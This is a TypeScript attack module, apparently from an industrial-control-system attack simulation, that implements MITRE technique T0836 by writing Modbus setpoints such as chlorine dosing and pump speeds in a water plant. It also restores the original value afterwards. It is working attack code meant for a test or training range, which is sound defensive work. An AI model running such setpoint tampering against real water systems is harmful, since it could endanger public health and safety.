// T0836 Modify Parameter: a foreign Modbus client writes a setpoint far outside its agreed band with function 6.
import { z } from 'zod'
import { readWords, writeRegister } from '../plc/modbus-words.ts'
import { SETPOINTS } from '../plc/water-registers.ts'
import type { Attack } from './attack.ts'
import { InsistSeconds } from './insist.ts'

const Parameters = z.strictObject({
  tag: z
    .enum(['chlorine.setpoint', 'tower.start-setpoint', 'tower.stop-setpoint', 'pump1.speed-setpoint', 'pump2.speed-setpoint'])
    .default('chlorine.setpoint')
    .describe('The setpoint that is changed.'),
  value: z.number().min(0).max(100).default(1.8).describe('The value that is written, in the unit of the tag.'),
  insistSeconds: InsistSeconds
})

export const setpointTamper = {
  name: 'setpoint-tamper',
  technique: 'T0836',
  parameters: Parameters,
  async aim(foothold, { tag, value, insistSeconds }) {
    await using link = await foothold.link()
    const register = SETPOINTS[tag]
    const [before = 0] = await readWords(link, 3, register.address, 1)
    const write = async (setpoint: number) => {
      await using own = await foothold.link()
      await writeRegister(own, register, setpoint)
    }
    return { tags: [tag], hosts: [link.host], insistSeconds, strike: () => write(value), undo: () => write(before * register.scale) }
  }
} satisfies Attack<typeof Parameters>
